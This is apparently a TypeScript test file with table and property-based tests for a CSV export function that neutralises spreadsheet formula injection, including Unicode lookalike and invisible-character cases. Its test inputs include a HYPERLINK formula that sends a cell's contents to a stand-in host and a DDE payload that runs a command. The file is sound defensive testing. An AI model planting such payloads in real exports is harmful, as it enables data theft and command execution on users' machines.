import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvRows, safeCell } from "./csv";

/** What a spreadsheet would see: cells after an RFC 4180 parser. */
const reparse = (cells: string[]): string[][] => parse(csvRows([cells]), { record_delimiter: "\r\n" }) as string[][];

describe("a cell that could be a formula becomes text", () => {
  test.each([
    ["plus", "+1+1"],
    ["minus", "-1+1"],
    ["at", "@SUM(1)"],
    ["equals", "=1+1"],
    ["pipe", "|calc"],
    ["tab", "\t=1+1"],
    ["tab before text", "\tx"],
    ["blank", " =1"],
    ["no-break space", "\u00a0=1"],
    ["carriage return", "\r=1+1"],
    ["line feed", "\n=1+1"],
    ["full-width equals", "\uff1d1+1"],
    ["full-width plus", "\uff0b1"],
    ["full-width minus", "\uff0d1"],
    ["full-width at", "\uff20SUM"],
    ["exfiltration", '=HYPERLINK("http://e.test/?d="&A1,"x")'],
    ["DDE", "=cmd|'/c calc'!A0"],
    ["direction override", "\u202e=1+1"],
    ["direction isolate", "\u2066=1+1"],
    ["zero width", "\u200b=1"],
    ["BOM", "\ufeff=1"],
    ["soft hyphen", "\u00ad=1"],
    ["quote before", '"=1'],
    ["apostrophe before", "'=1"],
    ["NUL before", "\u0000=1"],
  ])("%s", (_, text) => {
    const file = csvRows([[text]]);
    expect(file.startsWith(`"'`)).toBe(true);
    expect(reparse([text])).toHaveLength(1);
    expect(reparse([text])[0]).toHaveLength(1);
  });

  test("each line of a cell by itself", () => {
    expect(reparse(["ok\n=1+1\r\n@x"])).toEqual([["ok\n'=1+1\n'@x"]]);
  });
});

test("quotes are doubled, so a cell cannot break out", () => {
  expect(csvRows([['a","=1+1']])).toBe('"a"",""=1+1"\r\n');
});

test("a semicolon is quoted for locales that split at it", () => {
  expect(csvRows([["a;=1+1"]])).toBe('"a;=1+1"\r\n');
});

test("a lone line feed stays inside its cell", () => {
  expect(reparse(["a\nb", "c"])).toEqual([["a\nb", "c"]]);
});

test("a number stays a number; the same digits as text become text", () => {
  expect(csvRows([[-5, "-5"]])).toBe(`-5,"'-5"\r\n`);
});

test("times are UTC with milliseconds, lists are joined, null is empty", () => {
  expect(csvRows([[new Date(Date.UTC(2026, 10, 24)), ["A", "B"], null]])).toBe("2026-11-24T00:00:00.000Z,A B,\r\n");
});

test("ordinary names come through unchanged", () => {
  for (const text of ["echo", "github__create_issue", "O'Neil", "a-b", "1=2", "Zoë 🙂", ""])
    expect(safeCell(text)).toBe(text);
});

/** Independent of the rule under test: what is left of a line once all that shows nothing is taken off. */
const visibleStart = (line: string): string => line.replace(/^[\s\p{Z}\p{C}"]+/u, "").charAt(0);
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        "|",
        "\uff1d",
        "\uff20",
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        '"',
        "'",
        ",",
        ";",
        "\u0000",
        "\ufeff",
        "\u200b",
        "\u202e",
        "\u2028",
        "x",
      ),
      fc.string({ unit: "binary", maxLength: 3 }),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(""));

test("no line of any cell starts with a formula sign, whatever is written; no cell or row is lost", () => {
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 2, maxLength: 5 }), (cells) => {
      const rows = reparse(cells);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toHaveLength(cells.length);
      for (const cell of rows[0] ?? [])
        for (const line of cell.split(/\r\n|\r|\n/))
          expect("=+-@|\uff1d\uff0b\uff0d\uff20".includes(visibleStart(line) || "x")).toBe(false);
    }),
    { numRuns: 500 },
  );
});

test("written row by row or all at once by the library, it is the same text", () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.array(fc.oneof(hostile, fc.string({ maxLength: 6 }), fc.integer(), fc.constant(null)), {
          minLength: 2,
          maxLength: 4,
        }),
        { maxLength: 4 },
      ),
      (rows) => {
        const safe = rows.map((row) => row.map((value) => (typeof value === "string" ? safeCell(value) : value)));
        expect(csvRows(rows)).toBe(stringify(safe, { record_delimiter: "windows", quoted_match: /[\r\n\t;']/ }));
      },
    ),
    { numRuns: 500 },
  );
});
